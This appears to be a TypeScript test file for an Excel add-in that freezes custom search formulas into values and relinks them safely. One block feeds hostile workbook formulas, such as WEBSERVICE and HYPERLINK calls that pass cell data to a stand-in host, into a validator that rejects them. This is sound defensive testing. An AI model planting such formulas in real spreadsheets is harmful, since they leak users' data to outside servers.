// Frozen formulas come back only where nobody touched their cells, and nothing else is ever written.
import fc from 'fast-check';
import { freeze } from '../../../src/excel/freezing/freezing';
import { frozenNamespace, writeKept, type FrozenFormula } from '../../../src/excel/freezing/frozenParts';
import { frozenFormulas, relink, undoRelink, untouched } from '../../../src/excel/freezing/relinking';
import { TypedExcel, type Held } from '../workbook/typedExcel';

const formula = '=BIZBUREAU.SEARCH("roofing")';
const other = '=STAYS.SEARCH("x")';
const text = (value: string): Held => ({ value, type: 'String' });
const number = (value: number): Held => ({ value, type: 'Double' });
const rows = [
  [text('Name'), text('Phone'), text('Grade')],
  [text('Roofs & Co'), text('01234'), number(4.5)],
  [text('Tiles'), text(''), number(0.1 + 0.2)],
];

function filled(): TypedExcel {
  const excel = new TypedExcel();
  excel.results.set(formula, rows);
  excel.results.set(other, [[text('Hotel')], [text('One')]]);
  excel.formulas.set('Sheet1!B2', formula);
  excel.formulas.set('Sheet1!H2', other);
  return excel.install();
}

const both = [
  { cell: 'Sheet1!B2', formula },
  { cell: 'Sheet1!H2', formula: other },
];
const book = () => frozenFormulas('workbook');
const relinkAll = async () => relink((await book()).ready);

test('the formulas of a frozen workbook come back after it was closed, for whoever opens it', async () => {
  const before = filled();
  await freeze(both, { at: 5 });
  const opened = new TypedExcel();
  for (const [cell, held] of before.held) opened.held.set(cell, held);
  for (const [id, xml] of before.parts) opened.parts.set(id, xml);
  for (const [cell, format] of before.formats) opened.formats.set(cell, format);
  opened.results.set(formula, rows).set(other, [[text('Hotel')]]);
  opened.install();
  const { ready, left } = await book();
  expect(ready.map(({ cell, formula: is, at }) => [cell, is, at])).toEqual([
    ['Sheet1!B2', formula, 5],
    ['Sheet1!H2', other, 5],
  ]);
  expect(left).toEqual([]);
  expect((await relink(ready)).relinked).toHaveLength(2);
  expect([...opened.formulas]).toEqual([
    ['Sheet1!B2', formula],
    ['Sheet1!H2', other],
  ]);
  expect(await book()).toEqual({ ready: [], left: [] });
});

test('they come back where Excel does not know the functions in what programs write', async () => {
  const excel = filled();
  await freeze(both, { at: 5 });
  excel.unknown = /STAYS/;
  await relinkAll();
  expect(both.map(({ cell }) => [excel.formulas.get(cell), excel.at(cell).value])).toEqual([
    [formula, 'Name'],
    [other, 'Hotel'],
  ]);
});

test('a sheet that was renamed is found, one that is gone is listed', async () => {
  const excel = filled();
  await freeze(both, { at: 5 });
  const [sheet] = excel.sheets;
  sheet!.name = 'Renamed';
  for (const [cell, held] of [...excel.held]) excel.held.set(cell.replace('Sheet1', 'Renamed'), held);
  expect((await book()).ready.map(({ cell }) => cell)).toEqual(['Renamed!B2', 'Renamed!H2']);
  sheet!.id = 'id-2';
  expect(await book()).toMatchObject({
    ready: [],
    left: [{ cell: 'Sheet1!B2', why: 'was on a sheet that was deleted' }, { cell: 'Sheet1!H2' }],
  });
});

test.each([
  ['edited', (excel: TypedExcel) => excel.held.set('Sheet1!D4', number(7))],
  [
    'deleted',
    (excel: TypedExcel) =>
      [...excel.held.keys()].forEach((cell) => cell < 'Sheet1!H' && excel.held.delete(cell)),
  ],
  ['emptied in one cell', (excel: TypedExcel) => excel.held.delete('Sheet1!C3')],
  [
    'replaced by a formula with the same result',
    (excel: TypedExcel) => {
      excel.held.delete('Sheet1!C3');
      excel.formulas.set('Sheet1!C3', '="01234"');
      excel.results.set('="01234"', [[text('01234')]]);
    },
  ],
])('what was %s stays, also if it happens after the look', async (_, change) => {
  for (const when of ['before', 'after']) {
    const excel = filled();
    await freeze(both, { at: 5 });
    if (when === 'before') change(excel);
    const seen = await book();
    if (when === 'after') change(excel);
    const cells = new Map(excel.held);
    const report = await relink(seen.ready);
    expect(report.relinked.map(({ cell }) => cell)).toEqual(['Sheet1!H2']);
    expect([...seen.left, ...report.left]).toEqual([
      { cell: 'Sheet1!B2', why: 'was edited, moved or deleted after it was frozen' },
    ]);
    for (const [cell, held] of cells) if (cell < 'Sheet1!H') expect(excel.held.get(cell)).toEqual(held);
  }
});

test('a workbook that cannot keep the formulas is not frozen', async () => {
  const excel = filled();
  excel.keepsParts = false;
  await expect(freeze(both, { at: 5 })).rejects.toThrow('nothing was frozen');
  expect([...excel.formulas.values()]).toEqual([formula, other]);
});

test('if Excel is closed at any moment of freezing, nothing is lost', async () => {
  const tall = Array.from({ length: 5_001 }, (_, row) => [text(`0${row}`), number(row)]);
  for (let steps = 0; steps < 12; steps += 1) {
    const excel = filled();
    excel.results.set(formula, tall);
    excel.closesAfter = steps;
    await freeze(both, { at: 5 }).catch(() => undefined);
    excel.closesAfter = Infinity;
    excel.install();
    await relinkAll();
    expect(excel.formulas.get('Sheet1!B2')).toBe(formula);
    expect(excel.formulas.get('Sheet1!H2')).toBe(other);
  }
});

test('what Excel refuses while relinking gets its values back', async () => {
  for (let refuse = 0; refuse < 3; refuse += 1) {
    const excel = filled();
    await freeze([both[0]!], { at: 5 });
    const before = new Map(excel.held);
    const { ready } = await book();
    excel.refuse = refuse;
    const report = await relink(ready);
    expect(report.left).toEqual([{ cell: 'Sheet1!B2', why: 'is on a sheet that can’t be edited' }]);
    expect(excel.held).toEqual(before);
    expect((await relinkAll()).relinked).toHaveLength(1);
  }
});

test('a sheet that is deleted after the look keeps no other formula from coming back, nor from becoming values again', async () => {
  const excel = filled();
  excel.sheets.push({ id: 'id-2', name: 'Other' });
  excel.formulas.set('Other!B2', formula);
  await freeze([{ cell: 'Other!B2', formula }, ...both], { at: 5 });
  const { ready } = await book();
  excel.deleted.add('Other');
  const first = await relink(ready);
  expect(first.left).toEqual([{ cell: 'Other!B2', why: 'was on a sheet that was deleted' }]);
  expect(first.relinked).toHaveLength(2);
  expect(await undoRelink(first.relinked)).toBe(2);
  excel.deleted.clear();
  const { relinked } = await relinkAll();
  expect(relinked).toHaveLength(3);
  excel.deleted.add('Other');
  expect(await undoRelink(relinked)).toBe(2);
});

test('what was edited, or deleted with its sheet, is told from what shows what it did', async () => {
  const excel = filled();
  excel.sheets.push({ id: 'id-2', name: 'Other' });
  excel.formulas.set('Other!B2', formula);
  await freeze([{ cell: 'Other!B2', formula }, ...both], { at: 5 });
  const look = untouched((await book()).ready);
  expect([...(await look())]).toEqual(['Other!B2', 'Sheet1!B2', 'Sheet1!H2']);
  excel.held.set('Sheet1!B2', text('Company'));
  excel.deleted.add('Other');
  expect([...(await look())]).toEqual(['Sheet1!H2']);
});

test('undoing a relink puts back the values of before, unless the formula was edited', async () => {
  const excel = filled();
  await freeze(both, { at: 5 });
  const before = new Map(excel.held);
  const { relinked } = await relinkAll();
  expect(await undoRelink(relinked)).toBe(2);
  expect(excel.held).toEqual(before);
  expect((await book()).ready).toHaveLength(2);
  const again = await relinkAll();
  excel.formulas.set('Sheet1!B2', '=BIZBUREAU.SEARCH("tiles")');
  expect(await undoRelink(again.relinked)).toBe(1);
  expect(excel.formulas.get('Sheet1!B2')).toBe('=BIZBUREAU.SEARCH("tiles")');
});

test('a formula that was edited between the look and the freezing stays', async () => {
  const excel = filled();
  excel.formulas.set('Sheet1!B2', '=BIZBUREAU.SEARCH("tiles")');
  excel.results.set('=BIZBUREAU.SEARCH("tiles")', rows);
  expect(await freeze(both, { at: 5 })).toMatchObject({
    frozen: [{ cell: 'Sheet1!H2' }],
    failed: ['Sheet1!B2'],
  });
  expect(excel.formulas.get('Sheet1!B2')).toBe('=BIZBUREAU.SEARCH("tiles")');
});

test('freezing again replaces what was kept of the same cells, and of no others', async () => {
  const excel = filled();
  await freeze([both[0]!], { at: 5 });
  await freeze([both[1]!], { at: 6 });
  await relinkAll();
  await freeze([both[0]!], { at: 7 });
  expect(excel.parts.size).toBe(2);
  expect((await book()).ready.map(({ cell, at }) => [cell, at])).toEqual([['Sheet1!B2', 7]]);
});

describe('a workbook from someone else', () => {
  const hostile = (changes: Partial<FrozenFormula>): FrozenFormula => ({
    sheetId: 'id-1',
    sheet: 'Sheet1',
    cell: 'A1',
    area: 'A1',
    formula,
    formats: [],
    digests: [],
    ...changes,
  });

  test.each([
    ['=WEBSERVICE("https://x.test/?"&B2)', 'is not a Spillway formula'],
    ['=BIZBUREAU.SEARCH(WEBSERVICE("https://x.test"))', 'uses WEBSERVICE'],
    ['=HYPERLINK("https://x.test/?"&BIZBUREAU.SEARCH("x"))', 'uses HYPERLINK'],
    ['=BIZBUREAU.SEARCH("x")+\'[Book2]S\'!A1', 'refers to another workbook'],
    ['text', 'is not a Spillway formula'],
  ])('never has %s written', async (given, why) => {
    const excel = new TypedExcel().install();
    const kept = hostile({ formula: given });
    excel.parts.set('p', writeKept({ at: 1, formulas: [kept] }));
    expect(excel.parts.get('p')).toContain(frozenNamespace);
    const { ready, left } = await book();
    expect(ready).toEqual([]);
    expect(left[0]?.why).toContain(why);
  });

  test('cannot have cells overwritten that it says it froze', async () => {
    const excel = new TypedExcel().install();
    excel.held.set('Sheet1!A1', text('mine'));
    excel.parts.set(
      'p',
      writeKept({ at: 1, formulas: [hostile({ digests: ['AAAA'] }), hostile({ cell: 'A2', area: 'A2' })] }),
    );
    expect((await book()).ready).toEqual([]);
  });
});

test('in random histories, what a person typed is never overwritten and no formula is lost', async () => {
  const cells = ['B2', 'C3', 'D4', 'H2', 'H3'].map((cell) => `Sheet1!${cell}`);
  const step = fc.oneof(
    fc.constant({ kind: 'freeze' } as const),
    fc.constant({ kind: 'relink' } as const),
    fc.record({ kind: fc.constant('type' as const), cell: fc.constantFrom(...cells) }),
    fc.record({
      kind: fc.constant('close' as const),
      after: fc.nat({ max: 8 }),
      then: fc.constantFrom('freeze', 'relink'),
    }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(step, { maxLength: 12 }), async (steps) => {
      const excel = filled();
      const typed = new Map<string, Held>();
      const act = async (kind: string) => {
        const live = both.filter(({ cell, formula: own }) => excel.formulas.get(cell) === own);
        if (kind === 'freeze') await freeze(live, { at: 1 }).catch(() => undefined);
        else await relinkAll().catch(() => undefined);
      };
      for (const [index, each] of steps.entries()) {
        if (each.kind === 'type') {
          const mine = text(`mine ${index}`);
          const head = both.find(
            ({ cell }) =>
              excel.spillOf(cell) && excel.cellsOf(excel.spillOf(cell)!).flat().includes(each.cell),
          );
          // Over a living result, a person can only replace the formula.
          if (head && head.cell !== each.cell) continue;
          excel.formulas.delete(each.cell);
          excel.held.set(each.cell, mine);
          typed.set(each.cell, mine);
        } else if (each.kind === 'close') {
          excel.closesAfter = each.after;
          await act(each.then);
          excel.closesAfter = Infinity;
          excel.install();
        } else await act(each.kind);
        for (const [cell, mine] of typed) expect(excel.held.get(cell)).toEqual(mine);
      }
      await act('relink');
      for (const { cell, formula: own } of both) {
        const area = own === formula ? ['B2', 'C3', 'D4'] : ['H2', 'H3'];
        if (area.some((each) => typed.has(`Sheet1!${each}`))) continue;
        expect(excel.formulas.get(cell)).toBe(own);
      }
    }),
    { numRuns: 150 },
  );
});

test('the later freeze of a cell is brought back, although the clock was set back in between', async () => {
  const excel = filled();
  await freeze([both[0]!], { at: 1_000 });
  await relinkAll();
  const edited = '=BIZBUREAU.SEARCH("tiles")';
  excel.results.set(edited, rows);
  excel.formulas.set('Sheet1!B2', edited);
  await freeze([{ cell: 'Sheet1!B2', formula: edited }], { at: 5 });
  expect((await book()).ready.map((each) => each.formula)).toEqual([edited]);
  expect(excel.parts.size).toBe(1);
});

test('every freeze is read, however many there are', async () => {
  const excel = filled();
  await freeze([both[0]!], { at: 5 });
  for (let n = 0; n < 150; n += 1) excel.parts.set(`other ${n}`, writeKept({ at: n, formulas: [] }));
  expect((await book()).ready.map(({ cell }) => cell)).toEqual(['Sheet1!B2']);
});

test('what a newer version froze is left alone, and said', async () => {
  const excel = filled();
  await freeze([both[0]!], { at: 5 });
  const xml = `<frozen xmlns="${frozenNamespace}">${btoa(JSON.stringify({ v: 2, formulas: 'more' }))}</frozen>`;
  excel.parts.set('newer', xml);
  const { ready, left } = await book();
  expect(ready).toHaveLength(1);
  expect(left).toEqual([{ cell: 'Some formulas', why: expect.stringContaining('newer version') as string }]);
  await relinkAll();
  await freeze([both[0]!], { at: 6 });
  expect(excel.parts.get('newer')).toBe(xml);
});
